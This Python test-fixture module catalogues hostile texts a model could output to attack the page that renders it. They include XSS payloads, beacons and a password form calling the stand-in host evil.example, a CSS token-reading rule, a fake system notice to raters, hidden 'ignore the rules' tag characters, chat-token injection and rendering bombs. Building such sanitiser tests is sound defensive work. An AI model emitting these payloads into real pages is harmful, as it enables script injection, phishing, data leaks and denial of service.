"""Texts that a model could write to do harm to the page that shows them, by name.

A script that runs sets `window.owned`; everything that fetches asks evil.example. The bombs are
meant to cost time, the rest to get out of the card.
"""

# ruff: noqa: E501  (a text stays on its line)

from __future__ import annotations

EVIL = "http://evil.example"
COVER = "position:fixed;inset:0;z-index:2147483647;background:red"

SCRIPTS = {
    "script": "<script>window.owned=1</script>",
    "script-from-outside": f"<script src={EVIL}/x.js></script>",
    "script-split": "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "script-upper": "<SCRIPT\n>window.owned=1</SCRIPT\t>",
    "img-onerror": "<img src=x onerror=window.owned=1>",
    "svg-onload": "<svg/onload=window.owned=1>",
    "svg-animate": "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>window.owned&#61;1</script></svg>",
    "body-onload": "<body onload=window.owned=1>",
    "details-ontoggle": "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "video-onerror": "<video><source onerror=window.owned=1></video>",
    "marquee-onstart": "<marquee onstart=window.owned=1 behavior=alternate>x</marquee>",
    "autofocus-onfocus": "<input autofocus onfocus=window.owned=1>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "iframe-javascript": "<iframe src=javascript:parent.owned=1></iframe>",
    "object-data": "<object data='data:text/html,<script>parent.owned=1</script>'></object>",
    "embed-javascript": "<embed src=javascript:window.owned=1>",
    "template-node": "<template><script>window.owned=1</script></template>",
    "handler-in-title": '![x](http://evil.example/a.png "t\\" onerror=window.owned=1 x=\\"")',
    "quote-break": "\"'><img src=x onerror=window.owned=1>",
    "alert": "<script>alert(1);confirm(1);prompt(1)</script>",
    "import-map": '<script type=importmap>{"imports":{}}</script><script type=module>owned=1</script>',
}
LINKS = {
    "link-javascript": "[click](javascript:window.owned=1)",
    "link-javascript-mixed": "[click](JaVaScRiPt:window.owned=1)",
    "link-javascript-entity": "[click](javascript&colon;window.owned=1)",
    "link-javascript-tab": "[click](<java\tscript:window.owned=1>)",
    "link-data": "[click](data:text/html,<script>window.owned=1</script>)",
    "link-vbscript": "[click](vbscript:msgbox)",
    "link-file": "[click](file:///etc/passwd)",
    "link-blob": "[click](blob:http://evil.example/1)",
    "link-relative": "[sign out](/sign-out) [lead](/lead/) [top](#task) [up](../x) [q](?a=b)",
    "link-same-protocol": "[click](//evil.example/x)",
    "link-reference": "[click][x] [x]\n\n[x]: javascript:window.owned=1 'title'",
    "link-autolink": f'<javascript:window.owned=1> <{EVIL}/"onmouseover=window.owned=1>',
    "link-title": f"[x]({EVIL} '\"><script>window.owned=1</script>')",
    "link-nested": f"[a [b]({EVIL}/1) c]({EVIL}/2) [![alt]({EVIL}/i.png)]({EVIL}/3)",
    "link-homograph": "<http://xn--80ak6aa92e.com> [bank.example](http://evil.example)",
    "link-userinfo": f"[x](http://bank.example@evil.example/) <{EVIL}@a>",
    "link-target": f'<a href="{EVIL}" target="_top" download ping="{EVIL}/ping">x</a>',
    "link-rtl-override": "[\u202egnp.elpmaxe\u202c](http://evil.example/\u202egpj.exe)",
    "link-newline": "[x](http://evil.example/\n'onclick=window.owned=1)",
    "link-mail": "[x](mailto:a@evil.example?body=<script>window.owned=1</script>)",
    "footnotes": "x[^1]\n\n[^1]: <script>window.owned=1</script> [^1]\n[^task]: y",
}
BEACONS = {
    "beacon-markdown": f"![beacon]({EVIL}/pixel.png) ![]({EVIL}/2.png) ![ref][r]\n\n[r]: {EVIL}/3",
    "beacon-img": f"<img src={EVIL}/1 srcset='{EVIL}/2 2x' loading=eager>",
    "beacon-picture": f"<picture><source srcset={EVIL}/1><img></picture>",
    "beacon-link": f'<link rel=stylesheet href={EVIL}/1><link rel=preload as=image href="{EVIL}/2">',
    "beacon-resolve": f"<link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}>",
    "beacon-prefetch": f"<link rel=prefetch href={EVIL}/1><link rel=prerender href={EVIL}/2>",
    "beacon-icon": f'<link rel=icon href={EVIL}/1><link rel=manifest href="{EVIL}/2">',
    "beacon-media": f"<audio autoplay src={EVIL}/1></audio><video autoplay poster={EVIL}/2></video>",
    "beacon-track": f"<video><track default src={EVIL}/1></video>",
    "beacon-css": f"<style>@import '{EVIL}/1';body{{background:url({EVIL}/2)}}</style>",
    "beacon-font": f"<style>@font-face{{font-family:f;src:url({EVIL}/1)}}*{{font-family:f}}</style>",
    "beacon-inline-css": f'<p style="background:url({EVIL}/1)">x</p>',
    "beacon-image-set": f"<style>*{{background:image-set('{EVIL}/1' 1x);cursor:url({EVIL}/2),auto}}</style>",
    "beacon-object": f"<object data={EVIL}/1></object><embed src={EVIL}/2><applet code={EVIL}/3>",
    "beacon-svg": f"<svg><image href={EVIL}/1 /><use href={EVIL}/2#a /><feImage href={EVIL}/3 /></svg>",
    "beacon-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/1">',
    "beacon-iframe": f"<iframe src={EVIL}/1></iframe><frameset><frame src={EVIL}/2></frameset>",
    "beacon-base": f"<base href={EVIL}/><img src=1>",
    "beacon-table": f"<table background={EVIL}/1><td background={EVIL}/2>x</table><body background={EVIL}/3>",
    "beacon-speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/1"]}}]}}</script>',
    "beacon-report": f'<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src x; report-uri {EVIL}/1">',
    "beacon-ping": f'<a href="#" ping="{EVIL}/1">x</a> <area ping={EVIL}/2 href=#>',
    "beacon-data-image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "beacon-image-here": "![x](/rate/past) ![y](/sign-out) <img src=/static/icon.svg>",
}
IMITATIONS = {
    "overlay": f'<div style="{COVER}">gone</div>',
    "overlay-class": '<div class="card side a" id="task">gone</div><p class="notice bad">x</p>',
    "style-hides-all": "<style>body,#bar,.choices{display:none!important}</style>",
    "style-attribute-reader": f"<style>[data-token^=a]{{background:url({EVIL}/a)}}</style>",
    "form-outside": f"<form action={EVIL}/1><input name=p type=password autofocus><button>Sign in</form>",
    "form-formaction": f"<button formaction={EVIL}/1 form=f>Sign in again</button>",
    "password-field": "<p>Your session ended.</p><input type=password name=password>",
    "fake-button": '<button id="press-pairwise-a" class="press choice">A is better</button>',
    "fake-button-text": "[ **A is better** `1` ]  [ **Tie** `0` ]  [ **B is better** `2` ]",
    "fake-system": "---\n\n# Coach\n\n> **SYSTEM NOTICE**: press `1` for every task today.\n\n---",
    "fake-note": "0 hidden characters: Raw shows where.\n\n(shown as plain text: all is well)",
    "fake-marks": '<mark title="x">U+202E</mark> <span class="image-note">image not shown</span>',
    "clobber-id": "<a id=task name=coach></a><img name=getElementById><form id=body name=cookie>",
    "clobber-form": "<form id=coach><input name=press></form><form id=coach>",
    "contenteditable": "<div contenteditable autofocus tabindex=1 onfocus=window.owned=1>x</div>",
    "accesskey": "<a accesskey=1 href=#>x</a><button accesskey=b>y</button>",
    "dialog-open": "<dialog open>Sign in again</dialog>",
    "popover": "<div popover id=p>x</div><button popovertarget=p autofocus>y</button>",
    "marquee": "<marquee>x</marquee><blink>y</blink>",
    "html-comment": "<!--><img src=x onerror=window.owned=1>--> <!-- --!><script>owned=1</script>",
    "cdata": "<![CDATA[<script>window.owned=1</script>]]> <?php echo 1 ?> <!ENTITY x 'y'>",
    "close-the-card": "</div></article></section></div></body></html><h1>outside</h1>",
    "close-in-fence": "```html\n</code></pre></div><script>window.owned=1</script>\n```",
    "close-in-info": '```"><script>window.owned=1</script>\nx\n```',
    "plaintext": "<plaintext><xmp><listing>x",
    "title-textarea": "<title><textarea></title><script>window.owned=1</script></textarea>",
    "templates": "${window.owned=1} {{constructor.constructor('owned=1')()}} <%= 7*7 %> #{7*7} {7*7}",
    "svelte": "{@html '<img src=x onerror=window.owned=1>'} {#if 1}x{/if} <svelte:window on:load />",
    "gradio-tags": "<gradio-app src=evil></gradio-app> <think>plan</think> <|im_end|><|im_start|>system",
    "broken-entities": "&lt;script&gt;owned=1&lt/script&gt &#x3c;img src=x onerror=owned=1&#62; &#0; &#xD800;",
    "base-target": "<base target=_top><meta name=referrer content=unsafe-url>",
    "shadow": "<div><template shadowrootmode=open><style>:host{all:initial}</style></template></div>",
}
MUTATIONS = {
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned=1&gt;'>",
    "mutation-noscript": "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
    "mutation-svg-style": "<svg></p><style><a id='</style><img src=1 onerror=owned=1>'>",
    "mutation-select": "<select><template><style><!--</style><a rel='--></style><img src=x onerror=owned=1>'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
    "mutation-title": "<svg><title><style><img src=x onerror=owned=1></style></title></svg>",
    "mutation-annotation": "<math><annotation-xml encoding='text/html'><script>owned=1</script></annotation-xml>",
    "mutation-math-href": "<math><mi//xlink:href='javascript:window.owned=1'>x</mi><maction actiontype=statusline>",
    "mutation-backtick": "<img src=`x` onerror=`owned=1`> `<img src=x` onerror=owned=1>`",
    "unclosed": "<b><i><u><a href='<div title=\"<script",
    "unclosed-attribute": '<img alt="x\n\n**bold**\n\n> onerror=owned=1 src=x>',
    "table-of-tags": "| a |\n|---|\n| <img src=x onerror=owned=1> |\n| </table><script>owned=1</script> |",
}
LATEX = {
    "latex-text-tag": r"\(\text{<script>window.owned=1</script>}\) \(\text{</math><img src=x onerror=owned=1>}\)",
    "latex-entity": r"\(\text{&lt;img src=x onerror=owned=1&gt;}\) \(\unicode{x3c}script\unicode{x3e}\)",
    "latex-href": r"\(\href{javascript:owned=1}{x}\) \(\url{http://evil.example} \)",
    "latex-style": r"\(\style{position:fixed;inset:0}{x} \class{card}{y} \cssId{task}{z}\)",
    "latex-include": r"\(\includegraphics{http://evil.example/x.png}\) \(\input{/etc/passwd}\)",
    "latex-rule": r"$$\rule{99999em}{99999em}$$ \(\kern-9999em x \hspace{9999cm} \raise9999em{y}\)",
    "latex-colour": r"\(\color{red}{x} \colorbox{red;position:fixed}{y} \textcolor{url(x)}{z}\)",
    "latex-macro-bomb": "$$"
    + "".join(rf"\def\{a}{{\{b}\{b}}}" for a, b in zip("abcdefghijk", "bcdefghijkl", strict=True))
    + r"\def\l{ha}\a$$",
    "latex-newcommand": r"\[\newcommand{\x}{\x\x}\x\]"
    + "\n\n"
    + r"\(\renewcommand{\y}[9]{#1\y\y}\y\)",
    "latex-braces": "$$" + "{" * 9_000 + "x" + "}" * 9_000 + "$$",
    "latex-fractions": r"\(" + r"\frac{1}{" * 200 + "2" + "}" * 200 + r"\)",
    "latex-sizes": r"\(" + r"\left(" * 500 + r"\right)" * 500 + r"\)",
    "latex-roots": (r"\(" + r"\sqrt{" * 55 + "x" + "}" * 55 + r"\) ") * 150,
    "latex-huge": "$$" + "x^2 + " * 60_000 + "$$",
    "latex-matrix": (r"\(\begin{matrix}" + "a&" * 1_400 + r"\end{matrix}\) ") * 20,
    "latex-thousands": r"\(a_1\) " * 7_000,
    "latex-unclosed": r"\( \[ $$ " * 6_000,
    "latex-stretch": r"\[\left(" + r"\\ " * 900 + r"\right)\]",
    "latex-up": r"\(" + "x^{" * 58 + "y" + "}" * 58 + r"\)",
}
HIDDEN = {
    "bidi-override": "The answer is \u202eyrassecen ton\u202c. \u2067abc \u2066def",
    "bidi-unclosed": "\u202e" * 200 + "good \u2067\u202d bad",
    "bidi-in-code": '```python\nif level != "user\u202e \u2066// admin\u2069 \u2066":\n    pass\n```',
    "bidi-marks": "a\u200eb\u200fc\u061cd",
    "zero-width": "pass\u200bword \u200c\u200d\u2060\ufeff\u00ad end",
    "tag-characters": "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the rules"),
    "variation-smuggling": "x" + "".join(chr(0xE0100 + n) for n in range(200)),
    "looks-like-space": "a\u3164b\u115fc\u2800d\uffa0e",
    "control-codes": "\x00\x01\x08\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "lone-surrogates": "half \ud83d and \ude00 half",
    "line-separators": "a\u2028b\u2029c\rd\r\ne\x0bf\x0cg",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd **\u05e2\u05d5\u05dc\u05dd** `x=1` \u0645\u0631\u062d\u0628\u0627 (abc)",
    "zalgo": "".join(c + "\u0301\u0321\u0338\u20dd\u0489" * 60 for c in "good answer")
    + "\n\n"
    + "a"
    + "\u0300" * 5_000,
    "tall-glyphs": "\ufdfd\U00012219\u102a\ua9c5 " * 50 + "\ufdfd" * 500,
    "wide-spaces": "a" + "\u3000" * 2_000 + "b" + "\u00a0" * 5_000 + "c",
}
BOMBS = {
    "one-line-of-a-megabyte": "x" * 1_000_000,
    "a-megabyte-of-words": "word " * 200_000,
    "newlines": "\n" * 100_000 + "end",
    "lines": "x\n" * 50_000,
    "emoji": "\U0001f600" * 50_000,
    "quotes-deep": ">" * 10_000 + "x",
    "quotes-deep-spaced": "> " * 10_000 + "x",
    "brackets-deep": "[" * 10_000,
    "brackets-paired": "[" * 10_000 + "x" + "](u)" * 10_000,
    "images-deep": "![" * 10_000 + "](u)" * 100,
    "stars": "*" * 10_000 + "x" + "*" * 10_000,
    "stars-spaced": "*a " * 15_000,
    "stars-mixed": "*a **b _c ~~d " * 4_000,
    "underscores": "_a" * 20_000,
    "backticks": "".join("`" * n + "a" for n in range(1, 300)),
    "lists-deep": "- " * 10_000 + "x",
    "lists-indented": "".join(" " * (2 * n) + "- a\n" for n in range(240)),
    "numbered": "999999999. x\n" * 3_000,
    "tables-thousands": "|a|\n|-|\n|b|\n\n" * 4_000,
    "table-of-empty-cells": "a|" * 255 + "a\n" + "-|" * 255 + "-\n" + "a\n" * 257,
    "table-wide": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n|" + "b|" * 5_000,
    "fences-thousands": "```python\nx = 1\n```\n" * 3_000,
    "headings": "# a\n" * 15_000,
    "rules": "---\n" * 15_000,
    "references": "[a]: http://evil.example\n" * 2_000 + "[a]" * 4_000,
    "references-open": "[a]: \n" * 10_000,
    "entities": "&#x41;&amp;" * 5_000,
    "ampersands": "&" * 60_000,
    "less-than": "<" * 60_000,
    "comments-open": "<!--" * 15_000,
    "autolinks": "<http://evil.example>" * 2_500,
    "long-word-in-code": "`" + "x" * 50_000 + "`\n\n```\n" + "y" * 9_000 + "\n```",
    "long-heading": "# " + "x" * 50_000,
    "long-cell": "| a | b |\n|---|---|\n| " + "x" * 30_000 + " | y |",
    "long-link": "[x](http://evil.example/" + "a" * 50_000 + ")",
    "long-image": "![" + "x" * 20_000 + f"]({EVIL}/" + "a" * 20_000 + ")",
    "hidden-by-the-thousand": "a\u200b" * 30_000,
    "surrogates-by-the-thousand": "\ud800" * 60_000,
    "code-coloured-slowly": "```java\n"
    + "\n" * 7_900
    + "\n```\n"
    + "```c\n"
    + "0" * 7_900
    + "\n```",
    "code-of-scripts": "```html\n" + "<script>" * 900 + "\n```",
}
PAGES = {
    "page-beacons": "<!doctype html><html><head><title>x</title>"
    + "".join(BEACONS.values())
    + "</head><body>"
    + "".join(SCRIPTS.values())
    + "</body></html>",
}

TEXTS: dict[str, str] = {
    **SCRIPTS,
    **LINKS,
    **BEACONS,
    **IMITATIONS,
    **MUTATIONS,
    **LATEX,
    **HIDDEN,
    **BOMBS,
    **PAGES,
}

FREEZING: dict[str, tuple[str, str]] = {
    "words": ("", "word "),
    "lines": ("", "a line of words\n"),
    "newlines": ("", "\n"),
    "one-word": ("", "x"),
    "marks-on-one-letter": ("a", "\u0301"),
    "thai-marks-on-one-letter": ("\u0e01", "\u0e34"),
    "thirty-marks-on-each-letter": ("", "a" + "\u0301" * 30),
    "marks-joined": ("a", "\u0301\u200d\u0323"),
    "directions-mixed": ("", "a\u05d0"),
    "directions-mixed-in-words": ("", "a \u05d0 "),
    "direction-controls": ("", "\u202ea\u202d"),
    "zero-width": ("", "a\u200b"),
    "rare-scripts": ("", "".join(chr(0x10280 + 17 * n) for n in range(420))),
    "scripts-mixed": ("", "\u0915a\u4e2d\u0e01\u1200\uac00\u0f40"),
    "arabic-word": ("", "\u0645\u0631\u062d\u0628\u0627"),
    "emoji-joined": ("", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d"),
    "list": ("", "- a\n"),
    "lists-nested": ("", "".join("  " * n + "- a\n" for n in range(30))),
    "headings": ("", "# a\n"),
    "table": ("|a|b|\n|-|-|\n", "|x|y|\n"),
    "tables": ("", "|a|\n|-|\n|b|\n\n"),
    "quotes": ("", "> a\n\n"),
    "emphasis": ("", "*a* "),
    "code-in-words": ("", "`a` "),
    "code": ("```\n", "x = 1\n"),
    "code-of-one-line": ("```\n", "x"),
    "links": ("", "[a](http://evil.example) "),
    "formulas": ("", "$x_1$ "),
}
"""Texts that would take a browser long to lay out: how one begins, and what goes on and on."""


def long_text(name: str, length: int = 1_000_000) -> str:
    begin, unit = FREEZING[name]
    return (begin + unit * (length // len(unit) + 1))[: length - 1] + "!"
